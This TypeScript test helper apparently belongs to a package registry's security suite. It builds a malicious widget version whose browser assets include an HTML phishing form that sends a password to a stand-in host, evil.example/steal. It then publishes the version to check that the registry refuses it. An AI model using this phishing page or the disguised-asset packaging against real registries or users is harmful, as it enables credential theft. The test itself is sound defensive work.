/**
 * The evil widget's publishing attempt: its next version with a page among its browser assets (a
 * phishing form on the registry's origin, were it served), sent as npm sends a publish. The registry
 * must refuse it before storing anything.
 */
import { createHash } from 'node:crypto';
import { readdirSync, readFileSync, statSync } from 'node:fs';
import { join, relative } from 'node:path';
import { gzipSync } from 'node:zlib';
import { makeTarball, publishDocument, publishPath } from '@cunmen/test-utils';
import type { Platform } from '../platform.js';
import { EVIL } from './setup.js';

const PAGE = '<!doctype html><form action="https://evil.example/steal"><input name="password"></form>';

function filesUnder(root: string, dir = root): string[] {
  return readdirSync(dir).flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(root, path) : [relative(root, path)];
  });
}

export interface HtmlAttempt {
  status: number;
  code: string;
  /** Versions of the evil widget the registry holds afterwards. */
  versions: string[];
}

export async function publishHtmlAsset(p: Platform, built: string, version = '0.2.0'): Promise<HtmlAttempt> {
  const entries: Record<string, Buffer> = {};
  for (const file of filesUnder(built).filter((f) => f.startsWith('dist/') || f === 'widget.json')) {
    entries[`package/${file}`] = readFileSync(join(built, file));
  }
  const pkg = JSON.parse(readFileSync(join(built, 'package.json'), 'utf8'));
  entries['package/package.json'] = Buffer.from(JSON.stringify({ ...pkg, version }));
  const page = Buffer.from(PAGE);
  entries['package/dist/phish.html'] = page;
  const manifest = JSON.parse(readFileSync(join(built, 'dist/cunmen.json'), 'utf8'));
  manifest.version = version;
  manifest.assets.push({
    path: 'phish.html',
    size: page.length,
    gzip: gzipSync(page).length,
    integrity: `sha384-${createHash('sha384').update(page).digest('base64')}`,
    contentType: 'text/html; charset=utf-8',
  });
  entries['package/dist/cunmen.json'] = Buffer.from(JSON.stringify(manifest));
  const tarball = makeTarball(entries);
  const res = await fetch(`${p.registryUrl}${publishPath(EVIL)}`, {
    method: 'PUT',
    headers: { authorization: `Bearer ${p.tokens.deqing}`, 'content-type': 'application/json' },
    body: JSON.stringify(publishDocument(EVIL, version, tarball)),
  });
  const body = (await res.json()) as { code?: string };
  const packument = (await (await fetch(`${p.registryUrl}${publishPath(EVIL)}`)).json()) as {
    versions?: Record<string, unknown>;
  };
  return { status: res.status, code: String(body.code), versions: Object.keys(packument.versions ?? {}) };
}
